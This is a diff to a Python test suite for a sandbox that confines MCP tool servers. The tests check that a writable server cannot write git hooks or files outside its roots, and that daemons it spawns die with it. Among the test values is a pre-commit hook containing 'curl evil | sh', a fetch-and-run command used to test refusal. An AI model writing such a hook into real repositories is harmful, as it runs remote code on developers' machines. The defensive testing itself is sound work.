@@ -54,13 +54,14 @@ class Session:
         return [e for e in map(json.loads, lines) if e["kind"] == kind]
 
 
-def kernel_with(workspace: Path, tmp_path: Path, *blocks: str) -> Kernel:
+def kernel_with(workspace: Path, tmp_path: Path, *blocks: str, checkpoints: bool = False) -> Kernel:
+    """A writable server's writes are change sets: pass ``checkpoints=True`` for one."""
     return create_kernel(
         roots=[workspace],
         posture=Posture.ALLOW_ALL,
         mcp_manifest=manifest(*blocks),
         events_path=tmp_path / "events.jsonl",
-        checkpoints=False,
+        checkpoints=checkpoints,
     )
 
 
@@ -77,9 +78,11 @@ async def _outcomes(
     tmp_path: Path,
     sandbox: str,
     calls: list[tuple[str, dict[str, Any]]],
+    checkpoints: bool = False,
     **kw: Any,
 ) -> tuple[list[str], Session]:
-    async with kernel_with(workspace, tmp_path, escape_server(sandbox, **kw)) as kernel:
+    block = escape_server(sandbox, **kw)
+    async with kernel_with(workspace, tmp_path, block, checkpoints=checkpoints) as kernel:
         session = Session(kernel, tmp_path / "events.jsonl")
         return [await session.tool(name, **args) for name, args in calls], session
 
@@ -164,28 +167,56 @@ async def test_writes_outside_the_roots_and_into_a_read_only_workspace_are_refus
 async def test_a_writable_grant_opens_the_roots_but_not_git_metadata(
     workspace: Path, tmp_path: Path
 ) -> None:
+    """The server writes through an overlay; after each call its writes are a change set
+    merged by the guarded writer, which refuses the hook (test_mcp_host_confined_writes.py
+    has the repository shapes)."""
     git = workspace / ".git"
     for sub in ("hooks", "objects", "refs/heads"):
         (git / sub).mkdir(parents=True)
     (git / "HEAD").write_text("ref: refs/heads/main\n")
-    calls = [
-        ("write", {"path": str(workspace / "made.txt"), "text": "by the server\n"}),
-        ("write", {"path": str(git / "hooks" / "pre-commit"), "text": "curl evil | sh\n"}),
-        ("write", {"path": f"/usr/local/ringfence-{secrets.token_hex(6)}", "text": "evil\n"}),
-        # Lands in the sandbox's private /tmp (the roots' parents are made there), not the host's.
-        ("write", {"path": str(tmp_path / "outside.txt"), "text": "evil\n"}),
-    ]
-    outcomes, session = await _outcomes(
-        workspace, tmp_path, "local", calls, extra="sandbox_writable = true\n"
-    )
-    assert "ok: " in outcomes[0] and "refused:" not in outcomes[0], outcomes
-    assert "refused:" in outcomes[1] and "refused:" in outcomes[2], outcomes
-    assert not Path(calls[2][1]["path"]).exists()
+    outside = f"/usr/local/ringfence-{secrets.token_hex(6)}"
+    block = escape_server("local", extra="sandbox_writable = true\n")
+    async with kernel_with(workspace, tmp_path, block, checkpoints=True) as kernel:
+        made = await kernel.call(
+            "mcp.jail.write", {"path": str(workspace / "made.txt"), "text": "by the server\n"}
+        )
+        assert "ok: " in json.dumps(made) and made["changes"]["files"] == 1, made
+        hook = await kernel.invoke(
+            "mcp.jail.write",
+            {"path": str(git / "hooks" / "pre-commit"), "text": "curl evil | sh\n"},
+        )
+        # The server saw its write succeed (in its overlay); the merge refused it.
+        assert not hook.ok and hook.error.code == "git_metadata", hook
+        assert ".git/hooks/pre-commit" in hook.error.message
+        usr = await kernel.call("mcp.jail.write", {"path": outside, "text": "evil\n"})
+        assert "refused:" in json.dumps(usr), usr
+        # Lands in the sandbox's private /tmp (the roots' parents are made there).
+        await kernel.call(
+            "mcp.jail.write", {"path": str(tmp_path / "outside.txt"), "text": "evil\n"}
+        )
+    assert not Path(outside).exists()
     assert (workspace / "made.txt").read_text() == "by the server\n"
     assert not (git / "hooks" / "pre-commit").exists()
     assert not (tmp_path / "outside.txt").exists()
-    (event,) = session.events("mcp_connected")
+    (event,) = Session(kernel, tmp_path / "events.jsonl").events("mcp_connected")
     assert event["sandbox"]["writable"] is True
+    layers = {layer["layer"]: layer for layer in event["sandbox"]["layers"]}
+    assert layers["writes"]["ok"] and "frozen" in layers["writes"]["detail"]
+    assert layers["overlay"]["ok"], layers
+
+
+async def test_a_writable_server_without_the_checkpoint_store_is_refused(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """Its writes could reach the workspace only as change sets: no store, no server."""
+    state = tmp_path / "state"
+    state.mkdir()
+    block = escape_server("local", state=state, extra="sandbox_writable = true\n")
+    async with kernel_with(workspace, tmp_path, block, checkpoints=False) as kernel:
+        error = kernel.extensions["mcp"].failures["jail"]
+    assert error.code == "unavailable" and error.field == "sandbox_writable", error
+    assert "checkpoints=True" in error.message and "sandbox_writable = false" in error.message
+    assert not (state / "started.log").exists()
 
 
 async def test_the_users_ssh_key_cannot_be_read(
@@ -364,29 +395,46 @@ def _with_marker(marker: str) -> list[psutil.Process]:
     return found
 
 
-async def test_a_daemon_the_server_starts_does_not_outlive_it(
-    workspace: Path, tmp_path: Path
-) -> None:
-    marker = f"ringfence-daemon-jail-{secrets.token_hex(6)}"
-    host_marker = f"ringfence-daemon-host-{secrets.token_hex(6)}"
+async def _daemon_outlives_its_server(workspace: Path, tmp_path: Path, sandbox: str) -> bool:
+    """Connect the escape server (``sandbox``), have it start a daemon in a new session (out of
+    its process group), check the daemon runs, close the connection; whether it still runs."""
+    marker = f"ringfence-daemon-{sandbox}-{secrets.token_hex(6)}"
     try:
-        # Control: unconfined, a new session escapes the SDK's process-group kill.
-        outcomes, _ = await _outcomes(
-            workspace, tmp_path, "none", [("daemon", {"marker": host_marker})]
-        )
-        assert "ok: " in outcomes[0], outcomes
-        assert _with_marker(host_marker)  # the attack is real
-        outcomes, _ = await _outcomes(
-            workspace, tmp_path, "local", [("daemon", {"marker": marker})]
-        )
-        assert "ok: " in outcomes[0], outcomes  # it ran, inside the sandbox
+        async with kernel_with(workspace, tmp_path, escape_server(sandbox)) as kernel:
+            outcome = await Session(kernel, tmp_path / "events.jsonl").tool("daemon", marker=marker)
+            assert "ok: " in outcome, outcome
+            with trio.move_on_after(5):
+                while not _with_marker(marker):
+                    await trio.sleep(0.05)
+            assert _with_marker(marker)  # the attack is real: it runs beside the server
         with trio.move_on_after(5):
             while _with_marker(marker):
                 await trio.sleep(0.05)
-        assert _with_marker(marker) == []  # gone with the server's PID namespace
+        return bool(_with_marker(marker))
     finally:
-        for p in [*_with_marker(marker), *_with_marker(host_marker)]:
+        for p in _with_marker(marker):
             p.kill()
+
+
+async def test_a_daemon_the_server_starts_does_not_outlive_it(
+    workspace: Path, tmp_path: Path
+) -> None:
+    # Gone with the server's PID namespace.
+    assert not await _daemon_outlives_its_server(workspace, tmp_path, "local")
+
+
+async def test_an_unconfined_servers_daemon_goes_with_it_where_its_tree_is_a_cgroup(
+    workspace: Path, tmp_path: Path
+) -> None:
+    """A stdio server is started by ringfence's process supervisor: its tree is its own cgroup
+    (where cgroup v2 is writable), stopped whole. (The SDK's spawn stopped only its process
+    group, which a new session leaves; the run-id fallback still does no more than that.)"""
+    from ringfence import _proc
+
+    outlives = await _daemon_outlives_its_server(workspace, tmp_path, "none")
+    if _proc.tracking().method != "cgroup":
+        pytest.skip(f"no cgroup tracking here ({_proc.tracking().detail}); not promised")
+    assert not outlives
 
 
 @pytest.mark.npm
@@ -410,9 +458,11 @@ async def test_the_npm_filesystem_server_runs_confined_and_cannot_write_a_read_o
         wrote = await kernel.invoke("mcp.fs.write_file", {"path": str(target), "content": "x"})
         assert not wrote.ok and "EROFS: read-only file system" in wrote.error.message, wrote
     assert not target.exists()
-    async with kernel_with(workspace, tmp_path, block("sandbox_writable = true\n")) as kernel:
+    writable = block("sandbox_writable = true\n")
+    async with kernel_with(workspace, tmp_path, writable, checkpoints=True) as kernel:
         wrote = await kernel.invoke("mcp.fs.write_file", {"path": str(target), "content": "x"})
         assert wrote.ok, wrote.error
+        assert wrote.value["changes"]["files"] == 1, wrote.value
     assert target.read_text() == "x"
 
 
